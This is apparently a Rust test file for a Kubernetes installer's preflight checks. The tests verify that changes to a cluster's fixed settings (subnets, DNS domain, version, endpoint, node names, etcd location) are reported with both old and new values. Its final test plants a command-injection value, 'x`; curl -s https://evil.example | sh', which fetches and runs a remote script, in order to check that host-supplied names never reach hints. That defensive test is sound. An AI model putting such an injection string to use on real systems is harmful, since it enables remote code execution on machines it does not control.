use crate::facts::{Facts, ImmutableSettings};
use crate::preflight::samples::{Sample, sample};

/// A cluster that was made with the sample's own inventory.
fn running() -> Sample {
    let immutable = |facts: &mut Facts, address: &str| {
        facts.node.has_kubelet_conf = true;
        facts.node.immutable = ImmutableSettings {
            node_name: Some(facts.hostname.clone()),
            address: Some(address.into()),
            ..ImmutableSettings::default()
        };
    };
    sample()
        .converged()
        .on("n1", |facts| {
            immutable(facts, "10.77.0.11");
            facts.node.has_etcd_data = true;
            let known = &mut facts.node.immutable;
            known.pod_subnet = Some("10.244.0.0/16".into());
            known.service_subnet = Some("10.96.0.0/12".into());
            known.dns_domain = Some("cluster.local".into());
            known.version = Some("v1.37.2".into());
            known.endpoint = Some("10.77.0.11:6443".into());
            known.networks = vec!["10-flannel.conflist".into()];
        })
        .on("n2", |facts| immutable(facts, "10.77.0.12"))
        .on("n3", |facts| immutable(facts, "10.77.0.13"))
}

#[test]
fn an_inventory_that_made_the_cluster_is_fine() {
    assert_eq!(running().found(), [""; 0]);
    // Flags that replace kboot's own count as they are.
    let flags = running().wanting(|cluster| {
        cluster.network.pod_subnet = "10.200.0.0/16".parse().unwrap();
        let flags = &mut cluster.control_plane.controller_manager.extra_args;
        flags.insert("cluster-cidr".into(), "10.244.0.0/16".into());
    });
    assert_eq!(flags.found(), [""; 0]);
    // Whoever takes the network over tells kboot to leave it.
    assert_eq!(running().wanting(|cluster| cluster.network.cni = crate::inventory::Cni::None).found(), [""; 0]);
}

#[test]
fn what_a_cluster_keeps_is_refused_with_both_values() {
    let error = |text: &str| format!("n1 ClusterSettings error: {text}");
    let pods = running().wanting(|cluster| cluster.network.pod_subnet = "10.245.0.0/16".parse().unwrap());
    assert_eq!(
        pods.found(),
        [error("the cluster was made with `network.podSubnet: 10.244.0.0/16`, and the inventory has 10.245.0.0/16")]
    );
    let services = running().wanting(|cluster| cluster.network.service_subnet = "10.112.0.0/12".parse().unwrap());
    assert_eq!(
        services.found(),
        [error("the cluster was made with `network.serviceSubnet: 10.96.0.0/12`, and the inventory has 10.112.0.0/12")]
    );
    let domain = running().wanting(|cluster| cluster.network.dns_domain = "k8s.local".into());
    assert_eq!(
        domain.found(),
        [error("the cluster was made with `network.dnsDomain: cluster.local`, and the inventory has k8s.local")]
    );
    let version = running().wanting(|cluster| cluster.kubernetes.version = "v1.37.1".into());
    assert_eq!(version.found(), [error("the cluster runs Kubernetes v1.37.2, and the inventory has v1.37.1")]);
    let endpoint = running().wanting(|cluster| cluster.endpoint = Some("api.example.com".into()));
    assert_eq!(
        endpoint.found(),
        [
            "n1 ClusterEndpoint error: the cluster's endpoint is 10.77.0.11:6443, and the inventory has api.example.com:6443"
        ]
    );
    let network = running().wanting(|cluster| cluster.network.cni = crate::inventory::Cni::Weave);
    assert_eq!(
        network.found(),
        [error("the cluster's pod network is flannel, and the inventory has `network.cni: weave`")]
    );
}

#[test]
fn a_cluster_that_never_came_up_keeps_nothing() {
    let changed = running().on("n1", |facts| facts.node.has_etcd_data = false);
    let changed = changed.wanting(|cluster| cluster.network.dns_domain = "k8s.local".into());
    assert!(!changed.found().iter().any(|found| found.contains("ClusterSettings")));
}

#[test]
fn nodes_keep_their_names_and_are_moved_to_addresses() {
    let renamed = running().on("n2", |facts| facts.node.immutable.node_name = Some("w2".into()));
    let text = "n2 ClusterSettings error: the host is the cluster's node w2, and the inventory calls it n2";
    assert_eq!(renamed.found(), [text]);
    let moved = running().on("n2", |facts| facts.node.immutable.address = Some("10.77.0.99".into()));
    let text = "n2 NodeAddress error: the node's address is 10.77.0.99 in the cluster, and 10.77.0.12 in the inventory";
    assert_eq!(moved.found(), [text]);
    // One mistake is told once.
    let moved = running().on("n1", |facts| {
        facts.node.immutable.address = Some("10.77.0.99".into());
        facts.node.immutable.endpoint = Some("10.77.0.99:6443".into());
    });
    assert_eq!(moved.found().len(), 1, "{:?}", moved.found());
}

#[test]
fn an_etcd_host_keeps_its_address() {
    let moved =
        sample().converged_with_etcd_host().on("n3", |facts| facts.node.immutable.address = Some("10.77.0.99".into()));
    let text = "n3 ClusterSettings error: etcd's member has the address 10.77.0.99, and 10.77.0.13 in the inventory";
    assert_eq!(moved.found(), [text]);
}

#[test]
fn where_the_state_is_can_t_be_edited() {
    let stacked = running().with_etcd_at("https://10.0.0.21:2379").found();
    assert_eq!(stacked.len(), 1, "{stacked:?}");
    assert!(
        stacked[0].starts_with("n1 ClusterSettings error: the cluster's state is in the etcd on its control planes")
    );
    let elsewhere = || {
        running().on("n1", |facts| {
            let node = &mut facts.node;
            node.has_etcd_data = false;
            node.manifests.retain(|name| name != "etcd.yaml");
            node.immutable.etcd_servers = Some("https://10.0.0.21:2379,https://10.0.0.22:2379".into());
            facts.listening.retain(|listener| ![2379, 2380].contains(&listener.port));
        })
    };
    let found = elsewhere().found();
    assert_eq!(
        found,
        [
            "n1 ClusterSettings error: the cluster's state is in the etcd at https://10.0.0.21:2379,https://10.0.0.22:2379, and the \
             inventory has no `etcd.external`"
        ]
    );
    // Other endpoints may be the same etcd's: that is asked of etcd itself.
    assert_eq!(elsewhere().with_etcd_at("https://10.0.0.23:2379").found(), [""; 0]);
    let domain = elsewhere().with_etcd_at("https://10.0.0.21:2379");
    let domain = domain.wanting(|cluster| cluster.network.dns_domain = "k8s.local".into()).found();
    assert_eq!(domain.len(), 1, "{domain:?}");
}

#[test]
fn the_state_stays_where_it_is_when_hosts_of_etcd_s_come_or_go() {
    let text = |sample: &crate::preflight::samples::Sample| sample.found().concat();
    let come = text(&running().with_etcd_host().on("n3", |facts| {
        facts.node = Default::default();
        facts.listening.clear();
    }));
    assert!(
        come.contains("is in the etcd on its control planes, and the inventory has hosts with the role `etcd`"),
        "{come}"
    );
    let gone = text(&sample().converged_with_etcd_host().wanting(|cluster| drop(cluster.hosts.pop())));
    assert!(
        gone.contains("the cluster's state is in the etcd at https://10.77.0.13:2379, and the inventory has no"),
        "{gone}"
    );
    let all_other = sample().converged_with_etcd_host().on("n1", |facts| {
        facts.node.immutable.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.15:2379".into())
    });
    assert!(text(&all_other).contains("and the inventory has none of it as hosts of its etcd"), "{}", text(&all_other));
    // One is left, or the first of more.
    let grown = sample().converged_with_etcd_host().on("n1", |facts| {
        facts.node.immutable.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.13:2379".into())
    });
    assert_eq!(text(&grown), "");
}

#[test]
fn a_new_etcd_is_not_begun_for_a_cluster_that_has_lost_its_own() {
    let lost = sample().converged_with_etcd_host().on("n3", |facts| {
        facts.node = Default::default();
        facts.listening.clear();
    });
    assert_eq!(
        lost.found(),
        [
            "* ExternalEtcdData error: n1 keeps the cluster's state in the etcd at https://10.77.0.13:2379, and no etcd host has \
          any data"
        ]
    );
}

#[test]
fn no_name_that_a_host_gives_becomes_a_command() {
    let evil = || "x`; curl -s https://evil.example | sh".to_string();
    let sample = sample().converged().on("n1", |facts| {
        let immutable = &mut facts.node.immutable;
        immutable.node_name = Some(evil());
        immutable.dns_domain = Some(evil());
        immutable.version = Some(evil());
        facts.node.has_kubelet_conf = true;
    });
    let findings = sample.findings();
    assert_eq!(findings.iter().filter(|finding| finding.text.contains("evil")).count(), 3, "{findings:?}");
    for finding in findings {
        assert!(!finding.hint.contains("evil"), "{}", finding.hint);
    }
}
